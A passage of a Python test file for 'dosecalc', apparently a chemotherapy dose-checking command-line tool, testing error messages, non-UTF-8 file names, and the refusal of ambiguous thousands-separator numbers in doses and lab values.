    """Three messages the outside check found: 'PATH: no regimen files found' named no folder,
    'bad.parquet: is not a Parquet file' read oddly, and ledger record's date error named no
    option."""
    folder = tmp_path / "adir"
    folder.mkdir()
    p = run("regimens", "validate", str(folder))
    assert p.returncode == 2 and f"{folder}: no regimen files found" in p.stderr
    bad = tmp_path / "bad.parquet"
    bad.write_bytes(b"PAR1xx")
    p = run("check", "--history", str(bad))
    assert p.returncode == 2 and "bad.parquet: not a Parquet file dosecalc can read" in p.stderr
    p = run("ledger", "record", "--patient", "P1", "--date", "2026-13-01", "--drug", "cisplatin",
            "--dose", "50mg/m2", "--db", str(tmp_path / "l.db"))  # fmt: skip
    assert p.returncode == 2 and "--date: '2026-13-01' is not a date" in p.stderr


def test_capitalised_column_names_are_said_to_be_lower_case(run, tmp_path: Path) -> None:
    text = "Patient,Date,Drug,Dose,Unit\nP1,2024-01-01,epirubicin,90,mg/m2\n"
    p = run("check", "--history", str(write(tmp_path, "cap.csv", text)))
    assert p.returncode == 2 and "column names are lower case: write 'patient'" in p.stderr


def test_a_file_name_that_is_not_utf8_still_gives_json(run, tmp_path: Path) -> None:
    """orjson refused the lone surrogate Python reads such a byte as: an internal error, exit 3."""
    import os

    name = os.fsdecode(b"h\xff.csv")
    (tmp_path / name).write_text("date,drug,dose,unit,bsa_m2\n2024-01-08,epirubicin,74,mg,\n")
    p = run("check", "--history", str(tmp_path / name), "--bsa", "1.8", "--format", "json")
    assert p.returncode == 0, p.stderr
    data = json.loads(p.stdout)
    assert any("\udcff" in w["message"] for w in data["warnings"])  # the name, escaped


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["check", "--prior", "epirubicin=1.000mg/m2"], "could be 1 or 1,000"),
        (["check", "--prior", "epirubicin=1.500mg/m2"], "could be 1.5 or 1,500"),
        (
            [
                "plan",
                "ec",
                "--height",
                "175cm",
                "--weight",
                "70kg",
                *START,
                "--lab",
                "anc=1.500x10^9/L",
            ],
            "--lab: anc: '1.500x10^9/L' could be 1.5 or 1,500",
        ),  # fmt: skip
        (["bsa", "--height", "1.750m", "--weight", "70kg"], "write 1.75 or 1750"),
    ],
)
def test_a_point_that_may_separate_thousands_is_refused(run, args, needle) -> None:
    """'--prior epirubicin=1.000mg/m2', written where a point separates thousands (1,000
    mg/m²), was read as 1 mg/m² and the plan went on as if the patient had had none; a comma
    was already refused for the same reason. A number typed with three decimals ending in 0 is
    refused naming both readings; 0.500 and 1.825 read one way only."""
    refused(run(*args), needle)
    p = run("check", "--prior", "epirubicin=0.500mg/m2", "--prior", "doxorubicin=1.825mg/m2")
    assert p.returncode == 0, p.stderr


def test_a_lab_files_fixed_decimals_are_read_as_decimals(run, tmp_path: Path) -> None:
    """A laboratory system exports fixed decimals (1.500, 1.100): a number column, no
    thousands; they are read as the decimals they are, not refused as a typed 1.500 is."""
    labs = write(
        tmp_path,
        "labs.csv",
        "date,name,value,unit\n2026-11-28,anc,1.500,x10^9/L\n2026-11-28,scr,1.100,mg/dL\n",
    )
    p = run("plan", "ec", "--height", "175cm", "--weight", "70kg", *START, "--labs", str(labs),
            "--format", "json")  # fmt: skip
    assert p.returncode in (0, 1), p.stderr
    got = {x["name"]: x["value"] for x in json.loads(p.stdout)["labs"]}
    assert (got["anc"], got["scr"]) == (1.5, 1.1)
